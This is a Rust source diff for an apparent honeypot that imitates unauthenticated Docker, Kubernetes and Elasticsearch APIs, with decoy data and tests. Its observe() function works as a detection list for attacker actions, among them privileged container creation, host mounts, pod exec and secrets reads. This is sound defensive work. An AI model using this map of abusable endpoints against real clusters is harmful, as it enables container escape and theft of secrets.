@@ -5,52 +5,83 @@ use std::collections::hash_map::DefaultHasher;
 use std::hash::{Hash, Hasher};
 use std::time::SystemTime;
 
-use serde_json::json;
+use serde_json::{json, Value};
 
+use super::creds::form_pairs;
+use super::Flavor;
 use super::{Request, Response, DOCKER_VERSION, ES_VERSION, K8S_VERSION};
 use crate::log::http_date;
+use crate::log::{AttackDetails, AttackKind, Fields};
 use crate::protocols::ServiceCtx;
+use crate::util::clip;
 use crate::util::Rng;
+
+/// The Docker API path without its version prefix: /v1.41/containers/json → /containers/json
+fn docker_path(req: &Request) -> &str {
+    let path = req.path();
+    match path.strip_prefix("/v1.") {
+        Some(rest) => rest.find('/').map_or("/", |i| &rest[i..]),
+        None => path,
+    }
+}
+
+/// A decoded query parameter.
+fn query_param(req: &Request, name: &str) -> Option<String> {
+    form_pairs(req.query()?)
+        .into_iter()
+        .find(|(k, _)| k == name)
+        .map(|(_, v)| v)
+}
 
 pub(super) fn docker(req: &Request, ctx: &ServiceCtx) -> Response {
     let version = ctx
         .config
         .line("version")
         .unwrap_or_else(|| DOCKER_VERSION.to_owned());
-    let path = req.path();
-    // Strip an API version prefix: /v1.41/containers/json → /containers/json
-    let path = match path.strip_prefix("/v1.") {
-        Some(rest) => rest.find('/').map_or("/", |i| &rest[i..]),
-        None => path,
-    };
+    let path = docker_path(req);
     let post = req.method == "POST";
     let resp = match path {
+        _ if req.method == "OPTIONS" => Response {
+            status: 200,
+            headers: Vec::new(),
+            body: Vec::new(),
+        },
         "/_ping" => Response::new(200, "text/plain; charset=utf-8", "OK"),
-        "/" | "/version" => Response::json(
-            200,
-            &json!({
-                "Platform": {"Name": "Docker Engine - Community"},
-                "Components": [{
-                    "Name": "Engine",
-                    "Version": version,
-                    "Details": {
-                        "ApiVersion": "1.41", "Arch": "amd64", "BuildTime": "2023-04-04T10:50:35.000000000+00:00",
-                        "Experimental": "false", "GitCommit": "5d6db84", "GoVersion": "go1.19.7",
-                        "KernelVersion": "5.15.0-91-generic", "MinAPIVersion": "1.12", "Os": "linux"
-                    }
-                }],
-                "Version": version,
-                "ApiVersion": "1.41",
-                "MinAPIVersion": "1.12",
-                "GitCommit": "5d6db84",
-                "GoVersion": "go1.19.7",
-                "Os": "linux",
-                "Arch": "amd64",
-                "KernelVersion": "5.15.0-91-generic",
-                "BuildTime": "2023-04-04T10:50:35.000000000+00:00"
-            }),
-            false,
-        ),
+        "/version" => {
+            // Go's encoding/json: struct fields in declaration order, maps sorted.
+            let component = ordered(
+                &[
+                    ("Name", json!("Engine")),
+                    ("Version", json!(version)),
+                    (
+                        "Details",
+                        json!({
+                            "ApiVersion": "1.41", "Arch": "amd64", "BuildTime": "2023-04-04T10:50:35.000000000+00:00",
+                            "Experimental": "false", "GitCommit": "5d6db84", "GoVersion": "go1.19.7",
+                            "KernelVersion": "5.15.0-91-generic", "MinAPIVersion": "1.12", "Os": "linux"
+                        }),
+                    ),
+                ],
+                false,
+            );
+            let body = ordered(
+                &[
+                    ("Platform", json!({"Name": "Docker Engine - Community"})),
+                    ("Components", raw(&format!("[{component}]"))),
+                    ("Version", json!(version)),
+                    ("ApiVersion", json!("1.41")),
+                    ("MinAPIVersion", json!("1.12")),
+                    ("GitCommit", json!("5d6db84")),
+                    ("GoVersion", json!("go1.19.7")),
+                    ("Os", json!("linux")),
+                    ("Arch", json!("amd64")),
+                    ("KernelVersion", json!("5.15.0-91-generic")),
+                    ("BuildTime", json!("2023-04-04T10:50:35.000000000+00:00")),
+                ],
+                false,
+            );
+            Response::new(200, "application/json", format!("{body}\n"))
+        }
         "/info" => Response::json(
             200,
             &json!({
@@ -70,10 +101,48 @@ pub(super) fn docker(req: &Request, ctx: &ServiceCtx) -> Response {
             &json!({"Id": Rng::new().hex(64), "Warnings": []}),
             false,
         ),
+        "/images/create" if post => {
+            let image = query_param(req, "fromImage").unwrap_or_default();
+            let tag = query_param(req, "tag").unwrap_or_else(|| "latest".into());
+            let lines = [
+                json!({"status": format!("Pulling from library/{image}"), "id": tag}),
+                json!({"status": format!("Digest: sha256:{}", Rng::new().hex(64))}),
+                json!({"status": format!("Status: Image is up to date for {image}:{tag}")}),
+            ];
+            let mut body = String::new();
+            for l in lines {
+                body.push_str(&l.to_string());
+                body.push_str("\r\n");
+            }
+            Response::new(200, "application/json", body)
+        }
         p if post && p.starts_with("/containers/") && p.ends_with("/start") => {
             Response::new(204, "text/plain", Vec::new())
         }
-        _ => Response::json(404, &json!({"message": "page not found"}), false),
+        p if post && p.starts_with("/containers/") && p.ends_with("/exec") => {
+            Response::json(201, &json!({"Id": Rng::new().hex(64)}), false)
+        }
+        p if post && p.starts_with("/containers/") && p.ends_with("/wait") => {
+            Response::json(200, &json!({"StatusCode": 0, "Error": null}), false)
+        }
+        p if post && p.starts_with("/exec/") && p.ends_with("/start") => {
+            Response::new(200, "application/vnd.docker.raw-stream", Vec::new())
+        }
+        p if p.starts_with("/containers/") && p.ends_with("/json") => {
+            let id = p
+                .trim_start_matches("/containers/")
+                .trim_end_matches("/json");
+            Response::json(
+                404,
+                &json!({"message": format!("No such container: {id}")}),
+                false,
+            )
+        }
+        // The router's own 404: none of the API middleware's headers.
+        _ => {
+            return Response::json(404, &json!({"message": "page not found"}), false)
+                .header("Date", http_date(SystemTime::now()))
+        }
     };
     resp.header("Api-Version", "1.41")
         .header("Docker-Experimental", "false")
@@ -82,37 +151,84 @@ pub(super) fn docker(req: &Request, ctx: &ServiceCtx) -> Response {
         .header("Date", http_date(SystemTime::now()))
 }
 
-pub(super) fn k8s(req: &Request) -> Response {
-    let path = req.path();
-    let resp = match path {
-        "/version" => Response::json(
-            200,
-            &json!({
-                "major": "1", "minor": "28", "gitVersion": K8S_VERSION,
-                "gitCommit": "bae2c62678db2b5053817bc97181fcc2e8388103", "gitTreeState": "clean",
-                "buildDate": "2023-11-15T16:48:54Z", "goVersion": "go1.20.11",
-                "compiler": "gc", "platform": "linux/amd64"
-            }),
-            true,
-        ),
-        "/healthz" | "/livez" | "/readyz" => Response::new(200, "text/plain; charset=utf-8", "ok"),
-        _ => {
-            let verb = req.method.to_ascii_lowercase();
-            Response::json(
-                403,
-                &json!({
-                    "kind": "Status",
-                    "apiVersion": "v1",
-                    "metadata": {},
-                    "status": "Failure",
-                    "message": format!("forbidden: User \"system:anonymous\" cannot {verb} path \"{path}\""),
-                    "reason": "Forbidden",
-                    "details": {},
-                    "code": 403
-                }),
-                true,
-            )
+fn k8s_status(code: u16, reason: &str, message: &str) -> Response {
+    let body = ordered(
+        &[
+            ("kind", json!("Status")),
+            ("apiVersion", json!("v1")),
+            ("metadata", json!({})),
+            ("status", json!("Failure")),
+            ("message", json!(message)),
+            ("reason", json!(reason)),
+            ("details", json!({})),
+            ("code", json!(code)),
+        ],
+        true,
+    );
+    Response::new(code, "application/json", body)
+}
+
+/// A value already serialised (for [`ordered`]).
+fn raw(text: &str) -> Value {
+    Value::String(format!("\u{0}{text}"))
+}
+
+/// A JSON object with its keys in the given order (Go and Kubernetes write struct fields in
+/// declaration order; serde_json's map would sort them). `pretty`: two-space indentation and a
+/// final newline, like kube-apiserver.
+fn ordered(pairs: &[(&str, Value)], pretty: bool) -> String {
+    let mut out = String::from("{");
+    for (i, (k, v)) in pairs.iter().enumerate() {
+        let text = match v {
+            Value::String(s) if s.starts_with('\u{0}') => s[1..].to_owned(),
+            v if pretty => serde_json::to_string_pretty(v).unwrap_or_default(),
+            v => v.to_string(),
+        };
+        if i > 0 {
+            out.push(',');
         }
+        if pretty {
+            out.push_str("\n  ");
+            out.push_str(&serde_json::to_string(k).unwrap_or_default());
+            out.push_str(": ");
+            out.push_str(&text.replace('\n', "\n  "));
+        } else {
+            out.push_str(&serde_json::to_string(k).unwrap_or_default());
+            out.push(':');
+            out.push_str(&text);
+        }
+    }
+    out.push_str(if pretty { "\n}\n" } else { "}" });
+    out
+}
+
+/// kube-apiserver. `insecure`: the legacy plain port (8080), which serves everything without
+/// authentication; on the secure port anonymous requests get 403 except the public paths, and
+/// a (necessarily unknown) bearer token gets 401.
+pub(super) fn k8s(req: &Request, ctx: &ServiceCtx, insecure: bool) -> Response {
+    let version = ctx
+        .config
+        .line("version")
+        .unwrap_or_else(|| K8S_VERSION.to_owned());
+    let minor = version
+        .trim_start_matches('v')
+        .split('.')
+        .nth(1)
+        .unwrap_or("28")
+        .to_owned();
+    let path = req.path();
+    let public = matches!(path, "/version" | "/healthz" | "/livez" | "/readyz");
+    let resp = if !public && !insecure && req.header("authorization").is_some() {
+        k8s_status(401, "Unauthorized", "Unauthorized")
+    } else if !public && !insecure {
+        let verb = req.method.to_ascii_lowercase();
+        k8s_status(
+            403,
+            "Forbidden",
+            &format!("forbidden: User \"system:anonymous\" cannot {verb} path \"{path}\""),
+        )
+    } else {
+        k8s_insecure(req, path, &version, &minor)
     };
     let mut rng = Rng::new();
     resp.header("Audit-Id", rng.uuid())
@@ -121,6 +237,101 @@ pub(super) fn k8s(req: &Request) -> Response {
         .header("X-Kubernetes-Pf-Flowschema-Uid", rng.uuid())
         .header("X-Kubernetes-Pf-Prioritylevel-Uid", rng.uuid())
         .header("Date", http_date(SystemTime::now()))
+}
+
+fn k8s_insecure(req: &Request, path: &str, version: &str, minor: &str) -> Response {
+    let segs: Vec<&str> = path.trim_matches('/').split('/').collect();
+    let list = |kind: &str| {
+        Response::json(
+            200,
+            &json!({"kind": kind, "apiVersion": "v1", "metadata": {"resourceVersion": "48213"}, "items": []}),
+            true,
+        )
+    };
+    match segs.as_slice() {
+        ["version"] => {
+            let body = ordered(
+                &[
+                    ("major", json!("1")),
+                    ("minor", json!(minor)),
+                    ("gitVersion", json!(version)),
+                    (
+                        "gitCommit",
+                        json!("bae2c62678db2b5053817bc97181fcc2e8388103"),
+                    ),
+                    ("gitTreeState", json!("clean")),
+                    ("buildDate", json!("2023-11-15T16:48:54Z")),
+                    ("goVersion", json!("go1.20.11")),
+                    ("compiler", json!("gc")),
+                    ("platform", json!("linux/amd64")),
+                ],
+                true,
+            );
+            Response::new(200, "application/json", body)
+        }
+        ["healthz"] | ["livez"] | ["readyz"] => {
+            Response::new(200, "text/plain; charset=utf-8", "ok")
+        }
+        ["api"] => Response::json(
+            200,
+            &json!({"kind": "APIVersions", "versions": ["v1"],
+                    "serverAddressByClientCIDRs": [{"clientCIDR": "0.0.0.0/0", "serverAddress": "10.96.0.1:6443"}]}),
+            true,
+        ),
+        ["apis"] => Response::json(
+            200,
+            &json!({"kind": "APIGroupList", "apiVersion": "v1", "groups": [
+                {"name": "apps", "versions": [{"groupVersion": "apps/v1", "version": "v1"}],
+                 "preferredVersion": {"groupVersion": "apps/v1", "version": "v1"}},
+                {"name": "rbac.authorization.k8s.io", "versions": [{"groupVersion": "rbac.authorization.k8s.io/v1", "version": "v1"}],
+                 "preferredVersion": {"groupVersion": "rbac.authorization.k8s.io/v1", "version": "v1"}},
+                {"name": "batch", "versions": [{"groupVersion": "batch/v1", "version": "v1"}],
+                 "preferredVersion": {"groupVersion": "batch/v1", "version": "v1"}}
+            ]}),
+            true,
+        ),
+        ["api", "v1", "namespaces"] => {
+            let items: Vec<Value> = ["default", "kube-system", "kube-public", "kube-node-lease"]
+                .iter()
+                .map(|n| {
+                    json!({
+                        "metadata": {"name": n, "labels": {"kubernetes.io/metadata.name": n}},
+                        "spec": {"finalizers": ["kubernetes"]}, "status": {"phase": "Active"}})
+                })
+                .collect();
+            Response::json(
+                200,
+                &json!({"kind": "NamespaceList", "apiVersion": "v1",
+                        "metadata": {"resourceVersion": "48213"}, "items": items}),
+                true,
+            )
+        }
+        ["api", "v1", "namespaces", _, "pods", _, "exec"]
+        | ["api", "v1", "namespaces", _, "pods", _, "attach"] => {
+            // kubectl exec upgrades to SPDY/WebSocket; without one the apiserver refuses.
+            k8s_status(400, "BadRequest", "Upgrade request required")
+        }
+        ["api", "v1", "namespaces", ns, "pods", name] if req.method == "GET" => k8s_status(
+            404,
+            "NotFound",
+            &format!("pods \"{name}\" not found in namespace \"{ns}\""),
+        ),
+        ["api", "v1", "namespaces", _, "secrets"] | ["api", "v1", "secrets"] => list("SecretList"),
+        ["api", "v1", "namespaces", _, "pods"] | ["api", "v1", "pods"] if req.method == "GET" => {
+            list("PodList")
+        }
+        ["api", "v1", "namespaces", _, "pods"] if req.method == "POST" => {
+            let body: serde_json::Value = serde_json::from_slice(&req.body).unwrap_or_default();
+            Response::json(201, &body, true)
+        }
+        _ => Response::json(
+            404,
+            &json!({"kind": "Status", "apiVersion": "v1", "metadata": {}, "status": "Failure",
+                    "message": "the server could not find the requested resource", "reason": "NotFound",
+                    "details": {}, "code": 404}),
+            true,
+        ),
+    }
 }
 
 pub(super) fn elasticsearch(req: &Request, ctx: &ServiceCtx) -> Response {
@@ -133,27 +344,37 @@ pub(super) fn elasticsearch(req: &Request, ctx: &ServiceCtx) -> Response {
         .line("cluster_name")
         .unwrap_or_else(|| "elasticsearch".to_owned());
     let resp = match req.path() {
-        "/" => Response::json(
-            200,
-            &json!({
-                "name": ctx.hostname,
-                "cluster_name": cluster,
-                "cluster_uuid": stable_id(&format!("{}/{cluster}", ctx.hostname), 22),
-                "version": {
-                    "number": version,
-                    "build_flavor": "default",
-                    "build_type": "deb",
-                    "build_hash": "ef48222227ee6b9e70e502f0f0daa52435ee634d",
-                    "build_date": "2023-01-31T05:34:43.305517834Z",
-                    "build_snapshot": false,
-                    "lucene_version": "8.11.1",
-                    "minimum_wire_compatibility_version": "6.8.0",
-                    "minimum_index_compatibility_version": "6.0.0-beta1"
-                },
-                "tagline": "You Know, for Search"
-            }),
-            true,
-        ),
+        "/" => {
+            let q = |v: &str| serde_json::to_string(v).unwrap_or_default();
+            let (flavor, hash, date, lucene) = if version.starts_with("7.17") {
+                (
+                    "default",
+                    "ef48222227ee6b9e70e502f0f0daa52435ee634d",
+                    "2023-01-31T05:34:43.305517834Z",
+                    "8.11.1",
+                )
+            } else {
+                (
+                    "oss",
+                    "747e1cc71def077253878a59143c1f785afa92b9",
+                    "2021-01-13T00:42:12.435326Z",
+                    "8.7.0",
+                )
+            };
+            // Jackson's pretty printer, in Elasticsearch's key order.
+            let body = format!(
+                "{{\n  \"name\" : {},\n  \"cluster_name\" : {},\n  \"cluster_uuid\" : \"{}\",\n  \"version\" : {{\n    \"number\" : {},\n\
+                 \x20   \"build_flavor\" : \"{flavor}\",\n    \"build_type\" : \"deb\",\n    \"build_hash\" : \"{hash}\",\n\
+                 \x20   \"build_date\" : \"{date}\",\n    \"build_snapshot\" : false,\n    \"lucene_version\" : \"{lucene}\",\n\
+                 \x20   \"minimum_wire_compatibility_version\" : \"6.8.0\",\n    \"minimum_index_compatibility_version\" : \"6.0.0-beta1\"\n\
+                 \x20 }},\n  \"tagline\" : \"You Know, for Search\"\n}}\n",
+                q(&ctx.hostname),
+                q(&cluster),
+                stable_id(&format!("{}/{cluster}", ctx.hostname), 22),
+                q(&version),
+            );
+            Response::new(200, "application/json; charset=UTF-8", body)
+        }
         "/_cluster/health" => Response::json(
             200,
             &json!({
@@ -166,35 +387,345 @@ pub(super) fn elasticsearch(req: &Request, ctx: &ServiceCtx) -> Response {
             }),
             false,
         ),
-        "/_cat/indices" => Response::new(200, "text/plain; charset=UTF-8", ""),
+        "/_cat/indices" => {
+            let json_fmt = query_param(req, "format").as_deref() == Some("json");
+            if json_fmt {
+                let rows: Vec<_> = ES_INDICES
+                    .iter()
+                    .map(|(n, docs, size)| json!({"health": "yellow", "status": "open", "index": n,
+                        "uuid": stable_id(n, 22), "pri": "1", "rep": "1", "docs.count": docs.to_string(),
+                        "docs.deleted": "0", "store.size": size, "pri.store.size": size}))
+                    .collect();
+                Response::json(200, &json!(rows), false)
+            } else {
+                let mut t = String::new();
+                if req
+                    .query()
+                    .is_some_and(|q| q.split('&').any(|p| p == "v" || p == "v=true"))
+                {
+                    t.push_str("health status index     uuid                   pri rep docs.count docs.deleted store.size pri.store.size\n");
+                }
+                for (n, docs, size) in ES_INDICES {
+                    t.push_str(&format!(
+                        "yellow open   {n:<9} {} 1   1   {docs:>10}            0 {size:>10} {size:>14}\n",
+                        stable_id(n, 22)
+                    ));
+                }
+                Response::new(200, "text/plain; charset=UTF-8", t)
+            }
+        }
         p => {
-            let index = p
-                .trim_start_matches('/')
-                .split('/')
-                .next()
-                .unwrap_or_default();
-            Response::json(
-                404,
-                &json!({
-                    "error": {
-                        "root_cause": [{"type": "index_not_found_exception", "reason": format!("no such index [{index}]"), "index": index}],
-                        "type": "index_not_found_exception",
-                        "reason": format!("no such index [{index}]"),
-                        "index": index
-                    },
-                    "status": 404
-                }),
-                false,
-            )
+            let mut segs = p.trim_start_matches('/').split('/');
+            let index = segs.next().unwrap_or_default();
+            let op = segs.next().unwrap_or_default();
+            let known = ES_INDICES.iter().any(|(n, _, _)| *n == index);
+            match (req.method.as_str(), op) {
+                (_, "_search") if known || index == "_all" || index == "*" || index.is_empty() => {
+                    Response::json(
+                        200,
+                        &json!({"took": 3, "timed_out": false,
+                                "_shards": {"total": 1, "successful": 1, "skipped": 0, "failed": 0},
+                                "hits": {"total": {"value": 0, "relation": "eq"}, "max_score": null, "hits": []}}),
+                        false,
+                    )
+                }
+                ("DELETE", "") if known => {
+                    Response::json(200, &json!({"acknowledged": true}), false)
+                }
+                ("PUT", "") if !index.starts_with('_') => Response::json(
+                    200,
+                    &json!({"acknowledged": true, "shards_acknowledged": true, "index": index}),
+                    false,
+                ),
+                ("PUT" | "POST", "_doc" | "_create") if !index.starts_with('_') => Response::json(
+                    201,
+                    &json!({"_index": index, "_id": segs.next().map_or_else(|| stable_id(p, 20), str::to_owned),
+                            "_version": 1, "result": "created",
+                            "_shards": {"total": 2, "successful": 1, "failed": 0}, "_seq_no": 0, "_primary_term": 1}),
+                    false,
+                ),
+                _ => Response::json(
+                    404,
+                    &json!({
+                        "error": {
+                            "root_cause": [{"type": "index_not_found_exception", "reason": format!("no such index [{index}]"), "index": index}],
+                            "type": "index_not_found_exception",
+                            "reason": format!("no such index [{index}]"),
+                            "index": index
+                        },
+                        "status": 404
+                    }),
+                    false,
+                ),
+            }
         }
     };
-    let mut resp = resp.header("X-elastic-product", "Elasticsearch");
+    // Elasticsearch sends this header from 7.14 on.
+    let mut resp = if es_at_least(&version, 7, 14) {
+        let mut r = resp;
+        r.headers
+            .insert(0, ("X-elastic-product".into(), "Elasticsearch".into()));
+        r
+    } else {
+        resp
+    };
     for (n, v) in &mut resp.headers {
         if n == "Content-Type" && v == "application/json" {
             *v = "application/json; charset=UTF-8".into();
         }
     }
     resp
+}
+
+/// A JSON value as a list of strings (`["sh","-c","x"]` or `"sh -c x"`), bounded.
+fn strings(v: &Value) -> Vec<String> {
+    match v {
+        Value::Array(a) => a
+            .iter()
+            .take(64)
+            .map(|x| clip(x.as_str().unwrap_or_default().as_bytes(), 1024))
+            .collect(),
+        Value::String(s) => vec![clip(s.as_bytes(), 4096)],
+        _ => Vec::new(),
+    }
+}
+
+fn action(
+    kind: AttackKind,
+    name: &str,
+    command: Option<String>,
+    extra: Fields,
+) -> (AttackKind, AttackDetails) {
+    let mut extra = extra;
+    extra.insert("action".into(), Value::from(name));
+    (
+        kind,
+        AttackDetails {
+            command,
+            extra,
+            ..AttackDetails::default()
+        },
+    )
+}
+
+/// What a defender wants to know about an API request, beyond the request itself: a container
+/// create with its image, command, binds and privileged flag, an exec, a secrets read, an index
+/// search or delete. Pure.
+pub(super) fn observe(req: &Request, flavor: Flavor) -> Option<(AttackKind, AttackDetails)> {
+    let body: Value = serde_json::from_slice(&req.body).unwrap_or(Value::Null);
+    let mut extra = Fields::new();
+    match flavor {
+        Flavor::DockerApi => {
+            let path = docker_path(req);
+            let segs: Vec<&str> = path.trim_matches('/').split('/').collect();
+            if req.method != "POST" {
+                return None;
+            }
+            match segs.as_slice() {
+                ["containers", "create"] => {
+                    let mut argv = strings(&body["Entrypoint"]);
+                    let cmd = strings(&body["Cmd"]);
+                    argv.extend(cmd.iter().cloned());
+                    let host = &body["HostConfig"];
+                    extra.insert(
+                        "image".into(),
+                        Value::from(clip(
+                            body["Image"].as_str().unwrap_or_default().as_bytes(),
+                            512,
+                        )),
+                    );
+                    extra.insert("cmd".into(), Value::from(cmd));
+                    extra.insert("binds".into(), Value::from(strings(&host["Binds"])));
+                    extra.insert(
+                        "privileged".into(),
+                        Value::from(host["Privileged"].as_bool().unwrap_or(false)),
+                    );
+                    for (key, v) in [
+                        ("network_mode", &host["NetworkMode"]),
+                        ("pid_mode", &host["PidMode"]),
+                    ] {
+                        if let Some(v) = v.as_str().filter(|v| !v.is_empty()) {
+                            extra.insert(key.into(), Value::from(clip(v.as_bytes(), 128)));
+                        }
+                    }
+                    if let Some(name) = query_param(req, "name") {
+                        extra.insert("name".into(), Value::from(clip(name.as_bytes(), 128)));
+                    }
+                    if !body["Env"].is_null() {
+                        extra.insert("env".into(), Value::from(strings(&body["Env"])));
+                    }
+                    Some(action(
+                        AttackKind::Exec,
+                        "container_create",
+                        Some(argv.join(" ")),
+                        extra,
+                    ))
+                }
+                ["containers", id, "exec"] => {
+                    let cmd = strings(&body["Cmd"]);
+                    extra.insert("container".into(), Value::from(clip(id.as_bytes(), 128)));
+                    extra.insert("cmd".into(), Value::from(cmd.clone()));
+                    extra.insert(
+                        "privileged".into(),
+                        Value::from(body["Privileged"].as_bool().unwrap_or(false)),
+                    );
+                    Some(action(
+                        AttackKind::Exec,
+                        "exec_create",
+                        Some(cmd.join(" ")),
+                        extra,
+                    ))
+                }
+                ["containers", id, "start"] => {
+                    extra.insert("container".into(), Value::from(clip(id.as_bytes(), 128)));
+                    Some(action(AttackKind::Command, "container_start", None, extra))
+                }
+                ["images", "create"] => {
+                    let image = query_param(req, "fromImage").unwrap_or_default();
+                    let tag = query_param(req, "tag").unwrap_or_default();
+                    extra.insert(
+                        "image".into(),
+                        Value::from(clip(format!("{image}:{tag}").as_bytes(), 512)),
+                    );
+                    Some(action(AttackKind::Command, "image_pull", None, extra))
+                }
+                _ => None,
+            }
+        }
+        Flavor::K8s => {
+            let segs: Vec<&str> = req.path().trim_matches('/').split('/').collect();
+            match segs.as_slice() {
+                ["api", "v1", "namespaces", ns, "pods", pod, "exec" | "attach"] => {
+                    let cmd: Vec<String> = form_pairs(req.query().unwrap_or_default())
+                        .into_iter()
+                        .filter(|(k, _)| k == "command")
+                        .map(|(_, v)| clip(v.as_bytes(), 1024))
+                        .take(64)
+                        .collect();
+                    extra.insert("namespace".into(), Value::from(clip(ns.as_bytes(), 128)));
+                    extra.insert("pod".into(), Value::from(clip(pod.as_bytes(), 128)));
+                    extra.insert("cmd".into(), Value::from(cmd.clone()));
+                    Some(action(
+                        AttackKind::Exec,
+                        "pod_exec",
+                        Some(cmd.join(" ")),
+                        extra,
+                    ))
+                }
+                ["api", "v1", "namespaces", ns, "secrets", rest @ ..] => {
+                    extra.insert("namespace".into(), Value::from(clip(ns.as_bytes(), 128)));
+                    if let Some(name) = rest.first() {
+                        extra.insert("secret".into(), Value::from(clip(name.as_bytes(), 128)));
+                    }
+                    Some(action(AttackKind::Command, "secrets_read", None, extra))
+                }
+                ["api", "v1", "secrets"] => {
+                    Some(action(AttackKind::Command, "secrets_read", None, extra))
+                }
+                ["api", "v1", "namespaces", ns, "pods"] if req.method == "POST" => {
+                    let containers = body["spec"]["containers"]
+                        .as_array()
+                        .cloned()
+                        .unwrap_or_default();
+                    let images: Vec<Value> = containers
+                        .iter()
+                        .take(16)
+                        .map(|c| {
+                            Value::from(clip(
+                                c["image"].as_str().unwrap_or_default().as_bytes(),
+                                512,
+                            ))
+                        })
+                        .collect();
+                    let mut argv = Vec::new();
+                    if let Some(c) = containers.first() {
+                        argv = strings(&c["command"]);
+                        argv.extend(strings(&c["args"]));
+                    }
+                    extra.insert("namespace".into(), Value::from(clip(ns.as_bytes(), 128)));
+                    extra.insert("images".into(), Value::Array(images));
+                    extra.insert(
+                        "privileged".into(),
+                        Value::from(
+                            containers.iter().any(|c| {
+                                c["securityContext"]["privileged"].as_bool() == Some(true)
+                            }),
+                        ),
+                    );
+                    extra.insert(
+                        "host_path".into(),
+                        Value::from(
+                            body["spec"]["volumes"]
+                                .as_array()
+                                .is_some_and(|v| v.iter().any(|v| !v["hostPath"].is_null())),
+                        ),
+                    );
+                    Some(action(
+                        AttackKind::Exec,
+                        "pod_create",
+                        Some(argv.join(" ")),
+                        extra,
+                    ))
+                }
+                _ => None,
+            }
+        }
+        Flavor::Elasticsearch => {
+            let path = req.path().trim_start_matches('/');
+            let mut segs = path.split('/');
+            let index = segs.next().unwrap_or_default();
+            let op = segs.next().unwrap_or_default();
+            extra.insert("index".into(), Value::from(clip(index.as_bytes(), 256)));
+            let name = match (req.method.as_str(), op) {
+                (_, "_search") => {
+                    extra.remove("index");
+                    extra.insert(
+                        "index".into(),
+                        Value::from(clip(
+                            if index == "_search" { "" } else { index }.as_bytes(),
+                            256,
+                        )),
+                    );
+                    if req.body_len > 0 {
+                        extra.insert("query".into(), Value::from(clip(&req.body, 1024)));
+                    }
+                    "index_search"
+                }
+                ("DELETE", _) if !index.is_empty() => "index_delete",
+                ("PUT" | "POST", "_doc" | "_create" | "")
+                    if !index.is_empty() && !index.starts_with('_') =>
+                {
+                    if req.body_len > 0 {
+                        extra.insert("document".into(), Value::from(clip(&req.body, 1024)));
+                    }
+                    "index_write"
+                }
+                _ if index == "_search" => "index_search",
+                _ => return None,
+            };
+            Some(action(
+                AttackKind::Command,
+                name,
+                Some(format!("{} /{}", req.method, clip(path.as_bytes(), 512))),
+                extra,
+            ))
+        }
+        Flavor::Web => None,
+    }
+}
+
+/// The indices the Elasticsearch persona holds: (name, docs, size).
+const ES_INDICES: &[(&str, u64, &str)] = &[
+    ("customers", 152_340, "48.2mb"),
+    ("orders", 1_204_117, "391.5mb"),
+    ("users", 8_211, "2.1mb"),
+    ("logs-2026", 5_019_442, "1.2gb"),
+];
+
+fn es_at_least(version: &str, major: u32, minor: u32) -> bool {
+    let mut parts = version.split('.').map(|p| p.parse::<u32>().unwrap_or(0));
+    let (ma, mi) = (parts.next().unwrap_or(0), parts.next().unwrap_or(0));
+    (ma, mi) >= (major, minor)
 }
 
 /// An id that is stable for a decky (same answer on every connection).
@@ -222,7 +753,6 @@ fn stable_id(seed: &str, len: usize) -> String {
 mod tests {
     use super::super::super::testing::run;
     use super::*;
-    use serde_json::Value;
 
     fn split(out: &str) -> (&str, Value) {
         let (head, body) = out.split_once("\r\n\r\n").expect("head/body");
@@ -237,8 +767,18 @@ mod tests {
         assert!(head.contains("Api-Version: 1.41"));
         assert_eq!(body["Version"], "20.10.24");
         assert_eq!(body["ApiVersion"], "1.41");
-        let (out, _) = run("docker_api", json!({}), b"GET / HTTP/1.1\r\n\r\n");
-        assert_eq!(split(&out).1["Version"], "20.10.24");
+        assert!(out.contains("\r\n\r\n{\"Platform\":{\"Name\":\"Docker Engine - Community\"},\"Components\":[{\"Name\":\"Engine\",\"Version\":\"20.10.24\",\"Details\":{\"ApiVersion\""), "{out}");
+        let (out, _) = run("docker_api", json!({}), b"GET / HTTP/1.0\r\n\r\n");
+        assert!(
+            out.starts_with("HTTP/1.0 404 Not Found\r\nContent-Type: application/json\r\nDate: "),
+            "{out}"
+        );
+        assert_eq!(split(&out).1["message"], "page not found");
+        // Go's wire format, as nmap's Docker signature expects it.
+        let (out, _) = run("docker_api", json!({}), b"OPTIONS / HTTP/1.0\r\n\r\n");
+        let sig = "HTTP/1.0 200 OK\r\nApi-Version: 1.41\r\nDocker-Experimental: false\r\nOstype: linux\r\nServer: Docker/20.10.24 (linux)\r\nDate: ";
+        assert!(out.starts_with(sig), "{out}");
+        assert!(out.ends_with(" GMT\r\nContent-Length: 0\r\n\r\n"), "{out}");
         let (out, _) = run(
             "docker_api",
             json!({}),
@@ -264,12 +804,26 @@ mod tests {
             b"GET / HTTP/1.1\r\n\r\n",
         );
         let (head, body) = split(&out);
-        assert!(head.contains("X-elastic-product: Elasticsearch"));
-        assert!(head.contains("Content-Type: application/json; charset=UTF-8"));
+        assert!(!head.contains("X-elastic-product"));
+        assert!(head.starts_with("HTTP/1.1 200 OK\r\ncontent-type: application/json; charset=UTF-8\r\ncontent-length: "), "{head}");
         assert!(!head.contains("Server:"));
         assert_eq!(body["name"], "web-01");
         assert_eq!(body["cluster_name"], "prod-logs");
-        assert_eq!(body["version"]["number"], "7.17.9");
+        assert_eq!(body["version"]["number"], "7.10.2");
+        assert_eq!(body["version"]["lucene_version"], "8.7.0");
+        assert!(
+            out.contains("\n  \"name\" : \"web-01\",\n  \"cluster_name\" : \"prod-logs\",\n"),
+            "{out}"
+        );
+        let (out, _) = run(
+            "elasticsearch",
+            json!({"version": "7.17.9"}),
+            b"GET / HTTP/1.0\r\n\r\n",
+        );
+        assert!(
+            out.starts_with("HTTP/1.0 200 OK\r\nX-elastic-product: Elasticsearch\r\ncontent-type"),
+            "{out}"
+        );
         assert_eq!(body["tagline"], "You Know, for Search");
         assert_eq!(body["cluster_uuid"].as_str().map(str::len), Some(22));
         let (out, _) = run(
@@ -282,8 +836,25 @@ mod tests {
 
     #[test]
     fn k8s_forbidden_and_version() {
-        let (out, _) = run("k8s", json!({}), b"GET /api/v1/secrets HTTP/1.1\r\n\r\n");
+        use super::super::super::testing::ctx;
+        let c = ctx("k8s", json!({}));
+        let get = |target: &str, auth: bool| {
+            let mut r = Request {
+                method: "GET".into(),
+                target: target.into(),
+                version: "HTTP/1.1".into(),
+                ..Request::default()
+            };
+            if auth {
+                r.headers
+                    .push(("Authorization".into(), "Bearer abc".into()));
+            }
+            r
+        };
+        let resp = k8s(&get("/api/v1/secrets", false), &c, false);
